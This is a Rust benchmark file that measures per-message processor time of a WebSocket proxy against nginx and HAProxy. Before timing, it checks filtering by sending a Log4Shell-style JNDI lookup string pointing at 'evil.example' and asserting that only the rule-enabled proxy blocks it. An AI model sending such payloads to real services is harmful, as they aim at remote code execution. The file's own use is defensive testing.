//! The processor time of a proxied WebSocket message: guard beside nginx and HAProxy.
//!
//! `cargo build --release -p guard && cargo bench -p gabion-benches --bench messages [-- SECONDS]`, or
//! `benches/messages/run`.
//!
//! Each socket sends a message of 64 bytes and waits for its echo before the next. Each proxy has one
//! worker on one core; the load (this process) and the echo server share another. The measure is the
//! processor time of the proxy for each round trip, user and system (`/proc/PID/schedstat`); without a
//! proxy, that of the echo server. Results are medians of several rounds, in each of which every proxy
//! runs once.

#![allow(
    clippy::disallowed_methods,
    clippy::expect_used,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a bench reads the system's state and may panic"
)]

mod echo;
mod load;
mod testbed;

use std::{env, iter, process::ExitCode, time::Duration};

use gabion_benches::process::{OTHER_CORE, Running, stay_on};
use load::Run;
use testbed::{Proxy, Testbed};

/// The default duration of one run, and the number of rounds.
const SECONDS: u64 = 3;
const ROUNDS: usize = 5;

/// The numbers of open sockets.
const SOCKETS: [usize; 2] = [1, 100];

fn main() -> ExitCode {
    let args: Vec<String> = env::args().skip(1).collect();
    if let [role, addr] = &args[..]
        && role == echo::ROLE
    {
        echo::serve(addr.parse().expect("an address"));
        return ExitCode::SUCCESS;
    }
    let is_test = gabion_benches::is_test();
    let seconds = args.iter().find_map(|arg| arg.parse().ok());
    let seconds = Duration::from_secs(seconds.unwrap_or(if is_test { 1 } else { SECONDS }));
    let rounds = if is_test { 1 } else { ROUNDS };
    stay_on(OTHER_CORE);
    let testbed = Testbed::start();
    let proxies = Proxy::PROXIES.map(|proxy| (proxy, testbed.start_proxy(proxy)));
    let proxies = proxies
        .iter()
        .filter_map(|(proxy, running)| Some((*proxy, running.as_ref()?)));
    let proxies: Vec<_> = iter::once((Proxy::Direct, &testbed.echo))
        .chain(proxies)
        .collect();

    for (proxy, running) in &proxies {
        let passes = load::is_echoed(running, b"${jndi:ldap://evil.example}");
        assert_eq!(passes, *proxy != Proxy::GuardWithMessageRules, "{proxy}");
    }
    let mut runs = vec![[const { Vec::new() }; SOCKETS.len()]; proxies.len()];
    for _ in 0..rounds {
        for (nth, sockets) in SOCKETS.into_iter().enumerate() {
            for ((_, running), runs) in proxies.iter().zip(&mut runs) {
                runs[nth].push(load::measure(running, sockets, seconds));
            }
        }
    }
    print(&proxies, runs);
    ExitCode::SUCCESS
}

fn print(proxies: &[(Proxy, &Running)], runs: Vec<[Vec<Run>; SOCKETS.len()]>) {
    println!("processor time for each round trip, in microseconds (round trips a second)");
    print!("{:<28}", "sockets");
    for sockets in SOCKETS {
        print!("{sockets:>20}{:>8}", "ratio");
    }
    println!();
    let peer = proxies.iter().position(|(proxy, _)| *proxy == Proxy::Nginx);
    let peer = peer.map(|nth| runs[nth].clone());
    for ((proxy, _), runs) in proxies.iter().zip(runs) {
        print!("{proxy:<28}");
        for (nth, runs) in runs.into_iter().enumerate() {
            let ratio = peer.as_ref().map(|peer| load::ratio(&runs, &peer[nth]));
            let Run { micros, per_second } = load::median(runs);
            print!("{:>20}", format!("{micros:.1} ({per_second:.0})"));
            match ratio {
                Some(ratio) => print!("{ratio:>8.2}"),
                None => print!("{:>8}", "-"),
            }
        }
        println!();
    }
}
